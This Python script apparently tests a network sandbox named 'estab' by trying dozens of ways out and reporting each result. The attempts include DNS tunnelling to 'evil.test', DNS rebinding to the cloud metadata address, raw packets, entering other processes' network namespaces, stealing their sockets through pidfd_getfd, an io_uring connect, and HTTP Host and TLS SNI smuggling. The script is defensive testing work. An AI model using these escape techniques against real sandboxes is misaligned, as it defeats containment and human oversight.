"""Run as a command of estab run: tries every way out that its writer could think of. The argument is a folder of
processes' network namespaces. One line for each: its name, a tab, what came of it."""
import contextlib
import ctypes
import mmap
import os
import socket
import struct
import subprocess
import sys

TIMEOUT = 0.4
OK, FORBIDDEN, RESOLVER = "192.0.2.1", "192.0.2.2", "192.0.2.53"
OK6, FORBIDDEN6 = "2001:db8::1", "2001:db8::2"
GATEWAY, GATEWAY6, ESTAB = "10.77.0.1", "fd77::1", "10.77.0.2"


def tcp(host, port, data=b"escaped\n", family=None):
    with socket.socket(family or (socket.AF_INET6 if ":" in host else socket.AF_INET)) as s:
        s.settimeout(TIMEOUT)
        s.connect((host, port))
        s.sendall(data)
        return s.recv(100)


def udp(host, port, data=b"escaped", options=()):
    with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(TIMEOUT)
        for level, name, value in options:
            s.setsockopt(level, name, value)
        s.sendto(data, (host, port))
        return s.recv(1000)


def query(name, kind=1, count=1):
    question = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
    return struct.pack(">HHHHHH", 7, 0x100, count, 0, 0, 0) + question * count


def dns(server, *words):
    reply = udp(server, 53, query(*words))
    rcode, answers = reply[3] & 15, struct.unpack(">H", reply[6:8])[0]
    if rcode or not answers:
        raise OSError(f"refused, {rcode}")
    return reply


def dns_over_tcp(server):
    message = query("evil.test")
    return tcp(server, 53, struct.pack(">H", len(message)) + message)


def http(host, port=8080, target="/"):
    return tcp(OK, port, f"GET {target} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())


def hello(name):
    extension = b"" if name is None else struct.pack(">HHHBH", 0, len(name) + 5, len(name) + 3, 0, len(name)) + name
    body = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + struct.pack(">H", len(extension)) + extension
    message = b"\1" + struct.pack(">I", len(body))[1:] + body
    return tcp(OK, 8080, b"\x16\3\1" + struct.pack(">H", len(message)) + message)


def ping(host):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.settimeout(TIMEOUT)
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 0, 1) + b"escaped", (host, 0))
        return s.recv(100)


def raw(protocol):
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as s:
        s.settimeout(TIMEOUT)
        s.sendto(b"escaped-escaped-escaped-escaped", (FORBIDDEN, 0))
        return s.recv(100)


def sctp():
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132) as s:
        s.settimeout(TIMEOUT)
        s.connect((FORBIDDEN, 8080))


def abstract():
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(TIMEOUT)
        s.connect("\0estab-escape")
        s.sendall(b"escaped")


def inherited():
    sent = 0
    for fd in range(3, 64):
        with contextlib.suppress(OSError):
            if os.fstat(fd).st_mode & 0o170000 == 0o140000:
                sent += os.write(fd, b"escaped")
    if not sent:
        raise OSError("no socket")


def unshared():
    code = f"import socket; s = socket.socket(); s.settimeout(1); s.connect(({FORBIDDEN!r}, 8080)); s.send(b'escaped')"
    subprocess.run(["unshare", "-Urn", sys.executable, "-c", code], check=True, capture_output=True)


def other_namespace():
    own = os.stat("/proc/self/ns/net").st_ino
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in filter(str.isdigit, os.listdir("/proc")):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
            if os.fstat(fd).st_ino != own and libc.setns(fd, 0x40000000) == 0:
                return tcp(FORBIDDEN, 8080)
    raise OSError("none to be entered")


def others_descriptors():
    """A socket of a process outside, by pidfd_getfd(2)."""
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in map(int, filter(str.isdigit, os.listdir("/proc"))):
        if pid in (os.getpid(), os.getppid()):
            continue
        pidfd = libc.syscall(434, pid, 0)
        for fd in range(3, 30):
            if pidfd >= 0 and libc.syscall(438, pidfd, fd, 0) >= 0:
                return f"{fd} of {pid}"
    raise OSError("none to be had")


def io_uring():
    """connect(2) by the kernel's own thread of work."""
    libc = ctypes.CDLL(None, use_errno=True)
    parameters = ctypes.create_string_buffer(120)
    ring = libc.syscall(425, 4, parameters)
    if ring < 0:
        raise OSError(ctypes.get_errno(), "io_uring_setup")
    p = parameters.raw
    sq_entries, cq_entries = struct.unpack_from("II", p, 0)
    _, sq_tail, sq_mask, _, _, _, sq_array = struct.unpack_from("7I", p, 40)
    cq_cqes = struct.unpack_from("6I", p, 80)[5]
    queue = mmap.mmap(ring, max(sq_array + sq_entries * 4, cq_cqes + cq_entries * 16), offset=0)
    entries = mmap.mmap(ring, sq_entries * 64, offset=0x10000000)
    with socket.socket() as s:
        address = ctypes.create_string_buffer(
            struct.pack("=H", socket.AF_INET) + struct.pack(">H", 8080) + socket.inet_aton(FORBIDDEN) + bytes(8))
        entries[:64] = struct.pack("=BBHiQQI", 16, 0, 0, s.fileno(), 16, ctypes.addressof(address), 0).ljust(64, b"\0")
        queue[sq_array:sq_array + 4] = struct.pack("I", 0)
        queue[sq_tail:sq_tail + 4] = struct.pack("I", 1)
        if libc.syscall(426, ring, 1, 1, 1, None, 0) < 0:
            raise OSError(ctypes.get_errno(), "io_uring_enter")
        result = struct.unpack_from("=Qi", queue, cq_cqes)[1]
        if result < 0:
            raise OSError(-result, "connect")
        s.sendall(b"escaped")


WAYS = {
    "another port": lambda: tcp(OK, 8081),
    "an address": lambda: tcp(FORBIDDEN, 8080),
    "an address, IPv6": lambda: tcp(FORBIDDEN6, 8080),
    "an address, mapped": lambda: tcp("::ffff:" + FORBIDDEN, 8080),
    "the allowed host's other family": lambda: tcp(OK6, 8080),
    "another name": lambda: dns(GATEWAY, "evil.test"),
    "a tunnel by names": lambda: dns(GATEWAY, "secret.evil.test"),
    "a tunnel below the allowed name": lambda: dns(GATEWAY, "secret.ok.test"),
    "a tunnel by TXT": lambda: dns(GATEWAY, "ok.test", 16),
    "two questions in one": lambda: dns(GATEWAY, "evil.test", 1, 2),
    "another name server": lambda: dns(RESOLVER, "evil.test"),
    "another name server's TCP": lambda: dns_over_tcp(RESOLVER),
    "the name server's TCP": lambda: dns_over_tcp(GATEWAY),
    "no query to port 53": lambda: udp(GATEWAY, 53, b"escaped"),
    "host loopback, 127.0.0.1": lambda: tcp("127.0.0.1", 8080),
    "host loopback, ::1": lambda: tcp("::1", 8080),
    "host loopback, 0.0.0.0": lambda: tcp("0.0.0.0", 8080),
    "host loopback, gateway": lambda: tcp(GATEWAY, 8080),
    "host loopback, gateway, IPv6": lambda: tcp(GATEWAY6, 8080),
    "host loopback, estab's address": lambda: tcp(ESTAB, 8080),
    "the host's address, ssh": lambda: tcp(FORBIDDEN, 22),
    "metadata": lambda: tcp("169.254.169.254", 80),
    "metadata by a rebound name": lambda: (dns(GATEWAY, "rebind.test"), tcp("169.254.169.254", 8080))[1],
    "UDP": lambda: udp(FORBIDDEN, 9999),
    "UDP, IPv6": lambda: udp(FORBIDDEN6, 9999),
    "UDP to the allowed host": lambda: udp(OK, 9999),
    "QUIC to the allowed host": lambda: udp(OK, 443),
    "broadcast": lambda: udp("255.255.255.255", 9999, options=[(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)]),
    "multicast": lambda: udp("224.0.0.251", 9999),
    "ICMP": lambda: ping(FORBIDDEN),
    "a raw packet": lambda: raw(47),
    "a raw TCP packet": lambda: raw(6),
    "SCTP": sctp,
    "an abstract socket": abstract,
    "an inherited descriptor": inherited,
    "a new namespace": unshared,
    "another's namespace": other_namespace,
    "another's descriptor": others_descriptors,
    "io_uring": io_uring,
    "the host in HTTP": lambda: http("evil.test"),
    "two hosts in HTTP": lambda: http("ok.test\r\nHost: evil.test"),
    "an absolute target in HTTP": lambda: http("ok.test", target="http://evil.test/"),
    "no host in HTTP": lambda: tcp(OK, 8080, b"GET /escaped HTTP/1.0\r\n\r\n"),
    "the name in TLS": lambda: hello(b"evil.test"),
    "no name in TLS": lambda: hello(None),
}


def main():
    with contextlib.suppress(OSError):   # what is allowed, so that its address is pinned
        dns(GATEWAY, "ok.test")
        print(f"allowed\t{http('ok.test')}", flush=True)
    for name, way in WAYS.items():
        try:
            print(f"{name}\tOUT {way()!r}", flush=True)
        except Exception as e:
            print(f"{name}\tno: {e}", flush=True)


if __name__ == "__main__":
    main()
